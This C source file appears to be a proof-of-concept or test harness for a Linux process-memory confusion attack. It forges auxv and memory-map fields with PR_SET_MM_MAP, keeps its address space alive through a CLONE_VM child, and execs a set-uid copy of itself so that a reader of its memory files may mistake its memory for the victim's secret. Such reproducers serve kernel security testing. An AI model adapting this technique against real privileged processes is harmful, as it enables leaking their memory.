/*
 * A program that attacks a reader who holds a file of its memory open: it forges what tells its program from
 * the next one, keeps its memory alive in a process that shares it, and runs a set-uid program.
 *
 * Usage: forger attack PROGRAM     PROGRAM is this program, set-uid
 *        forger victim             what that one is
 *
 * Either maps the same addresses. The first 16 bytes are the same in both, and the attacker says of them that
 * they are its AT_RANDOM bytes, which each exec chooses anew; all others are 'A' in the attacker's memory, and
 * 'S', a secret, in the victim's. Each writes a line "attack EUID" or "victim EUID" when it is ready; the
 * attacker execs when it is sent a line, and the victim ends then.
 */

#define _GNU_SOURCE

#include <elf.h>
#include <fcntl.h>
#include <linux/prctl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <unistd.h>

#define ADDRESS ((char *)0x210000000000)
#define SIZE (16L << 20)
#define PUBLIC "public, 16 bytes"

enum { AUXV_BYTES = 4096, STACK = 1 << 16 };

static void check(int failed, const char *what)
{
    if (failed) {
        perror(what);
        exit(1);
    }
}

static void map(char content)
{
    void *mapped = mmap(ADDRESS, SIZE, PROT_READ | PROT_WRITE,
                        MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
    check(mapped != ADDRESS, "mmap");
    memset(ADDRESS, content, SIZE);
    memcpy(ADDRESS, PUBLIC, sizeof PUBLIC - 1);
}

static uint64_t field(const char *stat, int number)
{
    const char *at = strrchr(stat, ')') + 2;
    for (; number > 3; number--)
        at = strchr(at, ' ') + 1;
    return strtoull(at, NULL, 10);
}

static void forge(void)
{
    static char stat[4096];
    static __u64 auxv[AUXV_BYTES / sizeof(__u64)];
    int file = open("/proc/self/stat", O_RDONLY);
    check(read(file, stat, sizeof stat - 1) <= 0, "stat");
    file = open("/proc/self/auxv", O_RDONLY);
    long size = read(file, auxv, sizeof auxv);
    check(size <= 0, "auxv");
    for (__u64 *entry = auxv; entry[0] != AT_NULL; entry += 2)
        if (entry[0] == AT_RANDOM)
            entry[1] = (__u64)ADDRESS;
    struct prctl_mm_map new = {
        .start_code = field(stat, 26), .end_code = field(stat, 27), .start_stack = field(stat, 28),
        .start_data = field(stat, 45), .end_data = field(stat, 46), .start_brk = field(stat, 47),
        .brk = (uint64_t)sbrk(0), .arg_start = field(stat, 48), .arg_end = field(stat, 49),
        .env_start = field(stat, 50), .env_end = field(stat, 51),
        .auxv = auxv, .auxv_size = size, .exe_fd = -1,
    };
    check(prctl(PR_SET_MM, PR_SET_MM_MAP, &new, sizeof new, 0), "PR_SET_MM_MAP");
}

static int wait_for_ever(void *nothing)
{
    (void)nothing;
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    for (;;)
        pause();
}

static void report(const char *what)
{
    char line[64];
    int size = snprintf(line, sizeof line, "%s %d\n", what, geteuid());
    check(write(1, line, size) != size, "write");
}

int main(int count, char **arguments)
{
    char answer;
    if (count == 3 && strcmp(arguments[1], "attack") == 0) {
        static char stack[STACK];
        map('A');
        forge();
        check(clone(wait_for_ever, stack + STACK, CLONE_VM | SIGCHLD, NULL) < 0, "clone");
        report("attack");
        check(read(0, &answer, 1) != 1, "read");
        execl(arguments[2], arguments[2], "victim", NULL);
        perror("exec");
    } else if (count == 2 && strcmp(arguments[1], "victim") == 0) {
        map('S');
        report("victim");
        return read(0, &answer, 1) != 1;
    }
    return 1;
}
